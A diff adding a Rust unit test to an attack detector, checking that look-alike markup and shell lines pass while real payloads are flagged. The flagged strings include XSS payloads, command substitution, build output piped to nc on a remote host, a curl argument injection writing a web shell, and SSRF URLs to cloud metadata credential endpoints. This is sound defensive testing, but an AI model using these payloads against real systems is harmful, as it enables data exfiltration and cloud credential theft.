@@ -764,3 +764,38 @@ fn a_value_is_a_parameter() {
     // Scanned whole: `&` and `=` split nothing.
     assert!(d.scan_as(b"a=1&b=' or 1=1--", InputKind::Value).threat);
 }
+
+/// Page markup, shell lines and URLs that only look like attacks, beside
+/// the attacks they resemble.
+#[test]
+fn markup_shell_lines_and_metadata_urls() {
+    let d = detector();
+    for t in [
+        "<link rel=\"preload\" href=\"/fonts/inter-var.woff2\" as=\"font\" type=\"font/woff2\" crossorigin>",
+        "<noscript><img height=\"1\" width=\"1\" style=\"display:none\" src=\"/pixel?ev=PageView&noscript=1\"></noscript>",
+        "/search?q=%3Cscript%3E+tag+meaning",
+        "Can we sanitize the editor output with an allow-list instead of stripping <script> by regex?",
+        "If `$(pwd)` contains spaces, quote it: cd \"$(pwd)/build\"",
+        "docker run -v $(pwd):/app node:20",
+        "nohup python3 worker.py > worker.out 2>&1 &",
+        "make clean; make -j8 2>&1 | tee build.log",
+        "The metadata service answers on 169.254.169.254 inside the VPC.",
+    ] {
+        let v = d.scan(t.as_bytes());
+        assert!(!v.threat, "{t:?}: {:?}", v.findings);
+    }
+    for t in [
+        "<link rel=\"preload\" href=\"https://evil.example/x\">",
+        "<link href=\"a.js\" rel=stylesheet type=\"text/javascript\">",
+        "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+        "q=<script> alert(1)</script>",
+        "x=$(pwd; id)",
+        "make clean; make -j8 2>&1 | nc 203.0.113.7 4444",
+        "url=-o/var/www/html/shell.php http://198.51.100.9/s.txt",
+        "webhook_url=http://[fd00:ec2::254]/latest/meta-data/iam/security-credentials/",
+        "http://169.254.169.254/latest/meta-data/iam/security-credentials/role",
+        "url=http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token",
+    ] {
+        assert!(d.scan(t.as_bytes()).threat, "{t:?}");
+    }
+}
